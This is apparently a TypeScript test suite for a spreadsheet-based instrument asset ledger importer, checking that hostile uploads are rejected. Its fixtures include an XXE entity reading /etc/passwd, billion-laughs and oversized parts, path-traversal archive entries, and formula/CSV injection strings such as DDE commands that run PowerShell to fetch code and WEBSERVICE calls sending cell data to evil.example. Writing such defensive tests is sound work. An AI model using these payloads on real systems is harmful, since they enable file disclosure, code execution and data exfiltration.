import { utils, write } from '@e965/xlsx';
import { archiveOf, type FakeEntry } from '../../../files/src/testing/archive';
import { readLedger, rowsBelow } from './ledger';
import { ledgerTypeOf } from './ledger-content';
import { proposeMapping, valuesOf } from './ledger-mapping';
import { judgeRow, type JudgedRow } from './row-verdict';
import { KEPT_CHARACTERS } from './sheet';

const HEADER = ['资产编号', '仪器名称', '原值', '购置日期', '分类号', '经费来源'];
const ROW = ['A-1', '扫描电镜', '300000', '2024-01-05', '010102', '地方财政'];
const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006';
const TYPES = 'application/vnd.openxmlformats-officedocument.spreadsheetml';

const part = (name: string, text: string): FakeEntry => ({ name, content: Buffer.from(text) });

/** A workbook part by part, because no honest program writes these. */
const workbookOf = (sheet: string, ...more: FakeEntry[]): Buffer =>
  archiveOf([
    part(
      '[Content_Types].xml',
      `<Types xmlns="${PACKAGE}/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="${TYPES}.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="${TYPES}.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="${TYPES}.sharedStrings+xml"/></Types>`,
    ),
    part(
      '_rels/.rels',
      `<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    ),
    part(
      'xl/workbook.xml',
      `<workbook xmlns="${MAIN}" xmlns:r="${OFFICE}"><sheets><sheet name="台账" sheetId="1" r:id="r1"/></sheets></workbook>`,
    ),
    part(
      'xl/_rels/workbook.xml.rels',
      `<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r1" Type="${OFFICE}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="${OFFICE}/sharedStrings" Target="sharedStrings.xml"/></Relationships>`,
    ),
    part('xl/worksheets/sheet1.xml', sheet),
    ...more,
  ]);

const textCell = (text: string) => `<c t="inlineStr"><is><t>${text}</t></is></c>`;
const rowXml = (number: number, cells: string[]) => `<row r="${number}">${cells.join('')}</row>`;
const sheetXml = (rows: string, range = 'A1:F2') =>
  `<worksheet xmlns="${MAIN}"><dimension ref="${range}"/><sheetData>${rows}</sheetData></worksheet>`;
const plainRows = rowXml(1, HEADER.map(textCell)) + rowXml(2, ROW.map(textCell));

const rowsOf = (content: Buffer): JudgedRow[] => {
  const { rows, headerRow, ...place } = readLedger(content, { settled: [] });
  const mapping = proposeMapping(rows, { ...place, headerRow: headerRow ?? 1 });
  return rowsBelow(rows, mapping).map(({ rowNumber, cells }) =>
    judgeRow(rowNumber, valuesOf(cells, mapping), { ...mapping, holderRegionCode: '330402' }),
  );
};

describe('a hostile workbook', () => {
  it('would be read if it were honest', async () => {
    const content = workbookOf(sheetXml(plainRows));
    await expect(ledgerTypeOf(content)).resolves.toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(rowsOf(content)).toMatchObject([{ assetNumber: 'A-1', messages: expect.any(Array) }]);
  });

  const entity = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>';
  const laughs = `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>`;
  const zeros = Buffer.alloc(30 * 1024 * 1024, ' ');

  it.each<[string, string, Buffer]>([
    ['#27', 'an outside entity in its sheet', workbookOf(entity + sheetXml(plainRows))],
    ['#27', 'a billion laughs in its sheet', workbookOf(laughs + sheetXml(plainRows))],
    [
      '#27',
      'a billion laughs in its strings',
      workbookOf(sheetXml(plainRows), part('xl/sharedStrings.xml', `${laughs}<sst/>`)),
    ],
    [
      '#27',
      'strings that unpack without end',
      workbookOf(sheetXml(plainRows), {
        name: 'xl/sharedStrings.xml',
        content: zeros,
      }),
    ],
    [
      '#27',
      'a sheet bigger than its directory claims',
      workbookOf(sheetXml(plainRows), {
        name: 'xl/media/a.bin',
        content: Buffer.alloc(1024 * 1024),
        claimed: 10,
      }),
    ],
    [
      '#27',
      'one part twice',
      workbookOf(sheetXml(plainRows), part('xl/worksheets/sheet1.xml', '')),
    ],
    ['#28', 'a part that climbs out', workbookOf(sheetXml(plainRows), part('../../evil.xml', ''))],
    ['#28', 'a part at the root', workbookOf(sheetXml(plainRows), part('/etc/evil.xml', ''))],
    ['#28', 'a part behind a drive', workbookOf(sheetXml(plainRows), part('C:\\evil.xml', ''))],
    ['#26', 'macros', workbookOf(sheetXml(plainRows), part('xl/vbaProject.bin', 'x'))],
    ['#26', 'the inside of a document', archiveOf([part('word/document.xml', '<x/>')])],
  ])('%s is refused before it is kept for %s', async (_number, _what, content) => {
    await expect(ledgerTypeOf(content)).rejects.toMatchObject({
      kind: 'rule',
      members: { errors: [{ pointer: '/file' }] },
    });
  });

  it('#27 that claims a million rows and columns costs no more than what is there', () => {
    const content = workbookOf(sheetXml(plainRows, 'A1:XFD1048576'));
    expect(rowsOf(content)).toHaveLength(1);
  });

  it('#27 is refused for cells far to the right, and for rows without end', () => {
    const far = `<row r="2"><c r="XFD2" t="n"><v>1</v></c></row>`;
    expect(() => rowsOf(workbookOf(sheetXml(rowXml(1, HEADER.map(textCell)) + far)))).toThrow(
      expect.objectContaining({ code: 'ledger-too-many-columns' }),
    );
    const rows = Array.from({ length: 21_000 }, (_, index) => rowXml(index + 1, [textCell('x')]));
    expect(() => rowsOf(workbookOf(sheetXml(rows.join(''))))).toThrow(
      expect.objectContaining({ code: 'ledger-too-many-rows' }),
    );
  });

  it('#27 is spared its empty rows and its merged ranges', () => {
    const empty = `<row r="1048576"/>`;
    const merged = `<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>`;
    const sheet = sheetXml(plainRows + empty).replace('</worksheet>', `${merged}</worksheet>`);
    expect(rowsOf(workbookOf(sheet))).toHaveLength(1);
  });

  it('#27 has a cell of many characters cut, and one beyond what a cell can hold refused', () => {
    const long = (length: number) =>
      workbookOf(
        sheetXml(
          rowXml(1, HEADER.map(textCell)) +
            rowXml(2, [...ROW.slice(0, 1), '长'.repeat(length), ...ROW.slice(2)].map(textCell)),
        ),
      );
    expect(rowsOf(long(30_000))[0]?.nameZh).toHaveLength(KEPT_CHARACTERS);
    expect(() => rowsOf(long(40_000))).toThrow(
      expect.objectContaining({ code: 'ledger-unreadable' }),
    );
  });
});

describe('a formula', () => {
  const withFormula = (formula: string, value: string): Buffer => {
    const sheet = utils.aoa_to_sheet([HEADER, ROW]);
    sheet.B2 = { t: 's', v: value, f: formula };
    const book = utils.book_new();
    utils.book_append_sheet(book, sheet, '台账');
    return write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer;
  };

  it.each([
    "cmd|'/C calc'!A0",
    "cmd|'/C powershell IEX(wget evil)'!A0",
    '[1]Sheet1!$A$1',
    "'[\\\\host\\share\\x.xlsx]S'!A1",
    'HYPERLINK("http://evil.example","x")',
    'WEBSERVICE("http://evil.example/?"&A1)',
    'IMPORTXML("http://evil.example","//a")',
    'CALL("kernel32","WinExec","JC","calc",0)',
    'REGISTER.ID("kernel32","WinExec")',
    'DDE("cmd","/C calc","x")',
    'RTD("evil.server",,"x")',
    'INDIRECT("\'http://evil\'!A1")',
    'IMAGE("https://evil.example/x.png")',
  ])('#25 that reaches out is refused with its row, whatever value it stored: %s', (formula) => {
    expect(rowsOf(withFormula(formula, '扫描电镜'))).toMatchObject([
      { rowNumber: 2, messages: [{ field: 'nameZh', code: 'formula-refused' }, {}, {}, {}] },
    ]);
  });

  it.each(['A2&B1', 'SUM(1,2)', 'IF(C2>1,"x","y")', 'VLOOKUP(A2,A1:F2,2,FALSE)'])(
    '#25 that stays in its sheet gives its value and never its text: %s',
    (formula) => {
      expect(rowsOf(withFormula(formula, '扫描电镜'))[0]).toMatchObject({ nameZh: '扫描电镜' });
    },
  );

  it.each([
    '=1+1',
    "=cmd|'/C calc'!A0",
    '＝HYPERLINK(1)',
    '@SUM(1)',
    '+SUM(1)',
    "-1+cmd|'/C calc'!A0",
  ])('#25 in a text file is refused with its row: %s', (text) => {
    const content = Buffer.from([HEADER, ROW.with(1, text)].map((row) => row.join(',')).join('\n'));
    expect(rowsOf(content)[0]?.messages[0]).toMatchObject({
      ...{ field: 'nameZh', code: 'formula-refused', severity: 'refused' },
    });
  });

  it.each(['-80℃超低温冰箱', '+86 573 83640000', '@仪器共享', '-20℃冰箱(海尔)', 'v|tome|x m!'])(
    '#25 is not what %s is',
    (text) => {
      const content = Buffer.from(
        [HEADER, ROW.with(1, text)].map((row) => row.join(',')).join('\n'),
      );
      expect(rowsOf(content)[0]).toMatchObject({ nameZh: text });
      expect(rowsOf(content)[0]?.draft).toBeDefined();
    },
  );
});

describe('a file that is not what its name says', () => {
  it.each([
    ['a program', Buffer.from('MZ\u0090\u0000\u0003')],
    ['a picture', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex')],
    ['a text with holes', Buffer.from('资产编号,仪器\u0000名称')],
  ])('#26 is refused when it is %s', async (_what, content) => {
    await expect(ledgerTypeOf(content)).rejects.toMatchObject({ code: 'ledger-unreadable' });
  });

  it('#26 is read by its content when it is a ledger of another kind', () => {
    const book = utils.book_new();
    utils.book_append_sheet(book, utils.aoa_to_sheet([HEADER, ROW]), '台账');
    const old = write(book, { type: 'buffer', bookType: 'biff8' }) as Buffer;
    expect(rowsOf(old)).toHaveLength(1);
  });
});
